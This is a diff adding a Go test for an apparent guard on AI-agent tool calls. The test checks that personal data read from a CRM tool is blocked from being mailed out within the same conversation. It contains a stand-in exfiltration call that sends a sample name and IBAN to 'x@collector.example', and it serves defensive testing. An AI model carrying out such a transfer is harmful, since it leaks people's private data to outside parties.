@@ -98,6 +98,33 @@ func TestConversations(t *testing.T) {
 	}
 }
 
+// A call that does not say what it belongs to has seen what any did.
+func TestACallWithoutItsConversation(t *testing.T) {
+	const person = `{"resultType":"complete","content":[{"type":"text","text":"{\"name\":\"Adaeze Okonkwo\",\"iban\":\"DE89370400440532013000\",\"birth\":\"1988-03-14\",\"street\":\"Linienstrasse 112\"}"}]}`
+	for name, c := range map[string]struct {
+		read, meta string
+		passes     bool
+	}{
+		"without it":                    {`"a"`, ``, false},
+		"with none of its kind":         {`"a"`, `,"_meta":{"thread":{"x":1}}`, false},
+		"with another":                  {`"a"`, `,"_meta":{"thread":"b"}`, true},
+		"where nothing private is read": {``, ``, true},
+	} {
+		h := guardedHouse(t, durward.Guard{Conversation: "thread", Idle: 1e12, Upstreams: map[string]durward.GuardScope{"crm": {Data: "personal"}}})
+		if c.read != "" {
+			h.up.answer = answering(person)
+			if _, err := h.Serve(t.Context(), h.call(t, "tools/call", `{"name":"crm__get","arguments":{"text":"x"},"_meta":{"thread":`+c.read+`}}`), nil); err != nil {
+				t.Fatal(err)
+			}
+			h.up.answer = nil
+		}
+		reply, err := h.Serve(t.Context(), h.call(t, "tools/call", `{"name":"mail__send","arguments":{"to":"x@collector.example","text":"Adaeze Okonkwo, DE89370400440532013000"}`+c.meta+`}`), nil)
+		if passed := err == nil && !strings.Contains(string(reply.Result), "isError"); passed != c.passes {
+			t.Errorf("%s: %s, %v", name, reply.Result, err)
+		}
+	}
+}
+
 // bystander is a caller that remembers what it was told and asked, and answers.
 type bystander struct {
 	told, asked []string
